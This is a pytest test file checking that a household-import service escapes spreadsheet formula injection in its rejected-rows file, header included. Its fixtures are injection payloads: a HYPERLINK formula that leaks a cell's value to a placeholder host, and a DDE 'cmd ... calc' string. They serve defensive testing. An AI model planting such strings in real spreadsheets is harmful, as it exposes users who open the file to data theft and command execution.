"""The rejected-rows file of an import is opened in a spreadsheet by the user who downloads it:
none of its cells may run as a formula, the header row included, which is the uploaded file's
own and so as untrusted as its cells."""

import csv
import io

import pytest

from households.importing.service import ImportOptions, household_import_run
from households.synthetic import HEADER
from households.tests.helpers import csv_bytes, family_rows, person, xlsx_bytes
from tkpk.spreadsheets import formula_safe

pytestmark = pytest.mark.django_db

BAD_NIK = "6.30801E+15"  # refused: a NIK that Excel turned into a number
TWIN_NIK = "6308010203850001"  # refused after staging: row 2 already has it


def _rejects(data: bytes, name: str) -> list[list[str]]:
    out = io.BytesIO()
    report = household_import_run(
        fileobj=io.BytesIO(data),
        name=name,
        rejects_out=out,
        options=ImportOptions(source="dtks", valid_only=True, dry_run=True),
    )
    assert report.rejected == 2
    return list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))


# An extra column whose name is a formula: the import ignores it, the rejects file repeats it.
# openpyxl would store a "=..." string as a formula, so the XLSX file uses signs it keeps as text.
@pytest.mark.parametrize(
    ("name", "encode", "extra", "bad_name"),
    [
        ("keluarga.csv", csv_bytes, '=HYPERLINK("https://contoh.invalid/?d="&K2,"Klik")', " =1+1"),
        ("keluarga.xlsx", xlsx_bytes, '@HYPERLINK("https://contoh.invalid","Klik")', "\uff1d1+1"),
    ],
    ids=["csv", "xlsx"],
)
def test_no_cell_of_the_rejects_file_can_run_as_a_formula_header_included(
    hsu, name, encode, extra, bad_name
):
    rows = [
        *family_rows(),
        person(
            nomor_nik=BAD_NIK, nama=bad_name, alamat="\uff1dcmd|' /C calc'!A0", **{extra: "@SUM(9)"}
        ),
        person(nama="Budi Kembar", alamat="+62 Jl. Kembar"),
    ]
    header, *rejected = _rejects(encode(rows, header=[*HEADER, extra]), name)

    assert header[: len(HEADER)] == HEADER
    assert header[len(HEADER)] == "'" + extra
    by_nik = {row[HEADER.index("nomor_nik")]: row for row in rejected}
    bad, twin = by_nik[BAD_NIK], by_nik[TWIN_NIK]
    assert bad[HEADER.index("nama")] == "'" + bad_name
    assert bad[HEADER.index("alamat")] == "'\uff1dcmd|' /C calc'!A0"
    assert bad[len(HEADER)] == "'@SUM(9)"
    assert twin[HEADER.index("alamat")] == "'+62 Jl. Kembar"
    # Every cell, whatever its column, comes out as formula_safe leaves it.
    for row in [header, *rejected]:
        assert [formula_safe(cell) for cell in row] == row
